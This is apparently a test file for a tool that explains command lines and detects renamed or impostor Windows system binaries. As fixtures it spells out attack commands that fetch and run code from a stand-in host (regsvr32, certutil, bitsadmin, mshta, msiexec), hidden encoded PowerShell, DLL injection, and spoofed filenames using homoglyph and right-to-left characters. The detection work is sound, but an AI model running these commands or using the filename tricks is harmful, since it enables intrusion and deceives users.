@@ -1,0 +1,147 @@
+import { describe, expect, it } from "vitest";
+import type { Request } from "../src/invocations/types.ts";
+import { explain } from "../src/pipeline/explain.ts";
+import { testCatalog } from "./support/events.ts";
+
+const catalog = testCatalog();
+
+function who(request: Request) {
+  const { explanation } = explain(request, catalog);
+  const [first] = explanation.invocations;
+  return { ...first?.binary, ids: first?.behaviours.map(({ id }) => id) ?? [], text: explanation.verdict.text };
+}
+
+const windows = (image: string, rest: string, originalFileName?: string): Request => ({
+  platform: "windows",
+  image,
+  commandLine: `"${image}" ${rest}`,
+  ...(originalFileName !== undefined && { originalFileName }),
+});
+
+/** What each line shows, whoever runs it. */
+const ACTS: readonly (readonly [binary: string, original: string, rest: string, behaviour: string])[] = [
+  ["regsvr32.exe", "REGSVR32.EXE", "/s /i:http://h.example/a.sct scrobj.dll", "scriptlet"],
+  ["rundll32.exe", "RUNDLL32.EXE", "D:\\t\\a.dll,#1", "export"],
+  ["rundll32.exe", "RUNDLL32.EXE", 'javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "script"],
+  ["certutil.exe", "CertUtil.exe", "-urlcache -split -f http://h.example/a D:\\b", "download"],
+  ["msiexec.exe", "msiexec.exe", "/qn /i http://h.example/a.msi", "remote-package"],
+  ["mavinject.exe", "mavinject.exe", "1234 /INJECTRUNNING D:\\t\\a.dll", "inject"],
+  [
+    "powershell.exe",
+    "PowerShell.EXE",
+    "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
+    "encoded-command",
+  ],
+  ["powershell.exe", "PowerShell.EXE", "-NoProfile -ExecutionPolicy Bypass -c calc", "command"],
+  ["mshta.exe", "MSHTA.EXE", "http://h.example/a.hta", "remote-application"],
+  ["cmstp.exe", "CMSTP.EXE", "/s /ns D:\\t\\a.inf", "profile"],
+  ["bitsadmin.exe", "bitsadmin.exe", "/transfer j http://h.example/a D:\\b", "download"],
+  ["msbuild.exe", "MSBuild.exe", "D:\\t\\a.csproj", "project"],
+  ["wmic.exe", "wmic.exe", 'process call create "calc.exe"', "process"],
+  ["odbcconf.exe", "odbcconf.exe", "/a {REGSVR D:\\t\\a.dll}", "register"],
+  ["installutil.exe", "InstallUtil.exe", "/logfile= /LogToConsole=false /U D:\\t\\a.dll", "uninstall"],
+  ["forfiles.exe", "forfiles.exe", '/p C:\\Windows /c "cmd /c calc"', "command"],
+];
+
+describe("a copy under another name", () => {
+  it.each(ACTS)("%s is known by its original file name: %s %s", (binary, original, rest, behaviour) => {
+    const found = who(windows("D:\\t\\svc-host7.exe", rest, original));
+    expect(found).toMatchObject({ name: binary, renamed: true, by: "originalFileName" });
+    expect(found.ids.map((id) => id.split("/").at(-1))).toContain(behaviour);
+  });
+
+  /** The first eight show themselves by what nobody else is given. */
+  it.each(ACTS.slice(0, 8))("%s is known by its arguments alone: %s %s", (binary, _, rest, behaviour) => {
+    const found = who(windows("D:\\t\\svc-host7.exe", rest));
+    expect(found).toMatchObject({ name: binary, renamed: true, by: "behaviour" });
+    expect(found.ids.map((id) => id.split("/").at(-1))).toContain(behaviour);
+  });
+});
+
+describe("an impostor", () => {
+  const RUNS = "D:\\t\\a.dll,Run";
+  it.each([
+    ["rundl132.exe", RUNS, "rundll32.exe"],
+    ["rundIl32.exe", RUNS, "rundll32.exe"],
+    ["run\u217ell32.exe", RUNS, "rundll32.exe"],
+    ["r\u0435gsvr32.exe", "/s D:\\t\\a.dll", "regsvr32.exe"],
+    ["certuti1.exe", "-urlcache -f http://h.example/a D:\\b", "certutil.exe"],
+    ["rnshta.exe", "http://h.example/a.hta", "mshta.exe"],
+    ["mshta\u200b.exe", "http://h.example/a.hta", "mshta.exe"],
+    ["\u202eexe.athsm", "http://h.example/a.hta", "mshta.exe"],
+    ["msiexec.exe.exe", "/i http://h.example/a.msi", "msiexec.exe"],
+    ["0dbcconf.exe", "/a {REGSVR D:\\t\\a.dll}", "odbcconf.exe"],
+  ])("%s hides no behaviour of its twin", (file, rest, twin) => {
+    const found = who(windows(`D:\\t\\${file}`, rest));
+    expect(found).toMatchObject({ name: twin, renamed: true, by: "behaviour" });
+    expect(found.impostor).toBe(`${file} is written to be read as ${twin}`);
+    expect(found.ids.length).toBeGreaterThan(0);
+  });
+
+  it.each([
+    ["svch0st.exe", "svchost.exe"],
+    ["1sass.exe", "lsass.exe"],
+    ["invoice\u202efdp.exe", "invoiceexe.pdf"],
+  ])("%s is named, though the catalogue knows no such program", (file, seenAs) => {
+    const found = who(windows(`C:\\Windows\\System32\\${file}`, "-k netsvcs"));
+    expect(found.impostor).toBe(`${file} is written to be read as ${seenAs}`);
+    expect(found.text).toContain("is written to be read as");
+  });
+
+  it.each([
+    "OneDriveInstaller.exe",
+    "learn.exe",
+    "x64dbg.exe",
+    "Ch0colatey.exe",
+    "MicrosoftEdgeUpdate101.exe",
+    "größe.exe",
+  ])("%s is none", (file) => {
+    expect(who(windows(`C:\\Program Files\\Vendor\\${file}`, "-x 1")).impostor).toBeUndefined();
+  });
+});
+
+describe("a place", () => {
+  it("gives away a program of the system that lies elsewhere", () => {
+    expect(who(windows("C:\\Users\\Public\\rundll32.exe", "D:\\t\\a.dll,Run")).text).toContain(
+      "belongs in the Windows",
+    );
+    expect(who({ platform: "linux", image: "/tmp/.x/find", args: ["find", "/", "-exec", "id", ";"] }).text).toContain(
+      "belongs in /usr/bin",
+    );
+    const environment = {
+      platform: "linux",
+      image: "/tmp/venv/bin/python3",
+      args: ["python3", "-c", "print(1)"],
+    } as const;
+    expect(who(environment).text).not.toContain("belongs in");
+  });
+
+  it("is no other for what the store installs", () => {
+    const store = "C:\\Program Files\\WindowsApps\\Microsoft.PowerShell_7.4.2.0_x64__8wekyb3d8bbwe\\pwsh.exe";
+    expect(who(windows(store, "-c Get-Date", "pwsh.dll")).text).not.toContain("belongs in");
+  });
+});
+
+describe("the first word of a line", () => {
+  it("does not name a program whose file bears its original name", () => {
+    const request = {
+      platform: "windows",
+      image: "C:\\Windows\\System32\\notepad.exe",
+      commandLine: "msbuild.exe a.csproj",
+    } as const;
+    expect(who({ ...request, originalFileName: "NOTEPAD.EXE" }).name).toBe("notepad.exe");
+  });
+
+  it("names it where the file is unknown, and counts less than the file where it is known", () => {
+    expect(who({ platform: "windows", commandLine: "regsvr32 /s a.dll" })).toMatchObject({
+      name: "regsvr32.exe",
+      by: "argv0",
+    });
+    const lying = {
+      platform: "windows",
+      image: "C:\\Windows\\System32\\rundll32.exe",
+      commandLine: "notepad.exe D:\\a.dll,Run",
+    } as const;
+    expect(who(lying)).toMatchObject({ name: "rundll32.exe", by: "image" });
+  });
+});
